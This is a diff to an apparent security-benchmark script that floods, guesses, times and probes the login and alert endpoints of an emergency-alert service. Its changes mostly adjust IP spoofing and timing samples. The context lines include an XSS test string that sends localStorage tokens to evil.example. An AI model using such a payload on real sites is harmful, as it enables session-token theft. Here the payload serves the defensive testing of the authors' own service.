@@ -26,6 +26,7 @@ from collections.abc import Awaitable, Callable
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import asdict, dataclass, field
 from datetime import timedelta
+from functools import partial
 from pathlib import Path
 from typing import Any, TypeVar
 
@@ -46,6 +47,7 @@ from siaga.notify.models import OutboundMessage
 ROOT = Path(__file__).resolve().parents[1]
 API = "/api/v1"
 COBLONG = (-6.8915, 107.6107)
+CENTRE = "198.51.100.10"  # the command centre's address
 HOSTILE_NAME = '<img src=x onerror="fetch(`//evil.example/?t=`+localStorage.token)">'
 STRONG = "Kuda-Lumping-Menari-2026!"  # a staff password zxcvbn accepts
 T = TypeVar("T")
@@ -59,6 +61,7 @@ class Scale:
     flood_seconds: float
     bystander_rate: float
     guesses: int
+    timing_samples: int
     denied_reads: int
     login_flood_rate: float
     login_flood_seconds: float
@@ -74,6 +77,7 @@ class Scale:
             flood_seconds=float(os.environ.get("BENCH_FLOOD_S", 1.0 if quick else 20.0)),
             bystander_rate=float(os.environ.get("BENCH_BYSTANDER_RATE", 10 if quick else 20)),
             guesses=60,
+            timing_samples=2 if quick else 10,
             denied_reads=int(os.environ.get("BENCH_DENIED", 30 if quick else 240)),
             login_flood_rate=float(os.environ.get("BENCH_FLOOD_RATE", 50 if quick else 200)),
             login_flood_seconds=float(os.environ.get("BENCH_STEP_S", 1.0 if quick else 20.0)),
@@ -156,8 +160,10 @@ class Target:
 
     # People ---------------------------------------------------------------------------------------------------
 
-    async def login(self, username: str, password: str, *, ip: str | None = None) -> httpx.Response:
-        headers = {"X-Forwarded-For": ip} if ip else {}
+    async def login(self, username: str, password: str, *, ip: str = CENTRE) -> httpx.Response:
+        """A staff login from ``ip`` (the server trusts X-Forwarded-For from loopback): staff log in from the
+        command centre's address, and the floods come from this machine's own, as an attacker's would."""
+        headers = {"X-Forwarded-For": ip}
         return await self.http.post(
             f"{API}/auth/login", json={"username": username, "password": password}, headers=headers
         )
@@ -254,7 +260,7 @@ async def hostile_text(t: Target) -> Finding:
     stored: dict[str, str | None] = {}
     for label, text in (("nul", "x\u0000y"), ("lone_surrogate", "a\ud800b")):
         press_id = str(uuid.uuid4())
-        body = {"id": press_id, "category": "kriminalitas", "description": text}
+        body: dict[str, Any] = {"id": press_id, "category": "kriminalitas", "description": text}
         body["location"] = {"lat": COBLONG[0], "lon": COBLONG[1], "accuracy_m": 15.0}
         answer = await t.press(token, raw=json.dumps(body))
         answers[label] = answer.status_code
@@ -526,7 +532,7 @@ async def resident_flood(t: Target, scale: Scale) -> Finding:
 
 async def guessing(t: Target, scale: Scale) -> Finding:
     _, _, username = await t.staff("operator")
-    attacker, centre = "203.0.113.66", "198.51.100.10"
+    attacker, centre = "203.0.113.66", "198.51.100.11"
     answers = await asyncio.gather(*(t.login(username, f"tebakan-{i}", ip=attacker) for i in range(scale.guesses)))
     at_once = Counter(a.status_code for a in answers)
     busy = sum(1 for a in answers if a.status_code == 429 and a.json()["error"]["code"] == "auth.busy")
@@ -538,7 +544,7 @@ async def guessing(t: Target, scale: Scale) -> Finding:
     # Unknown accounts and wrong passwords take the same time (each is a full argon2 check).
     timings: dict[str, list[float]] = {"unknown": [], "wrong_password": []}
     _, _, other = await t.staff("operator")
-    for i in range(6):
+    for i in range(scale.timing_samples):
         for kind, name in (("unknown", f"tidak.ada.{i}"), ("wrong_password", other)):
             began = time.monotonic()
             await t.login(name, f"salah-{i}", ip=f"192.0.2.{10 + i}")
@@ -598,7 +604,7 @@ async def denied_reads(t: Target, scale: Scale) -> Finding:
     outsider, outsider_id, _ = await t.staff("operator", "POLSEK-SUKAJADI")
     alert = (await t.press(owner)).json()["id"]
     half = scale.denied_reads // 2
-    statuses = Counter()
+    statuses: Counter[int] = Counter()
     for i in range(half):
         statuses[(await t.get(intruder, f"/alerts/{alert}" if i % 2 else f"/alerts/{alert}/timeline")).status_code] += 1
     for i in range(scale.denied_reads - half):
@@ -700,7 +706,7 @@ async def oracles(t: Target) -> Finding:
     missing = shape(await t.post(operator, path, {"unit_id": 2_000_000_000}))
 
     victim = f"0812{random.randrange(10**8):08d}"
-    asked = Counter()
+    asked: Counter[tuple[int, str]] = Counter()
     for _ in range(12):
         answer = await t.http.post(
             f"{API}/residents/code", json={"phone": victim}, headers={"X-Forwarded-For": "203.0.113.66"}
@@ -855,7 +861,7 @@ async def contacts(t: Target) -> Finding:
     for _ in range(presses):
         answer = await t.press(token)
         alert_id = answer.json()["id"]
-        await eventually(lambda a=alert_id: _settled_alarms(t, a, len(phones)), what="the contacts' alarms")
+        await eventually(partial(_settled_alarms, t, alert_id, len(phones)), what="the contacts' alarms")
         await t.post(operator, f"/alerts/{alert_id}/acknowledge")
         resolved = await t.post(operator, f"/alerts/{alert_id}/resolve", {"outcome": "genuine"})
         resolved.raise_for_status()
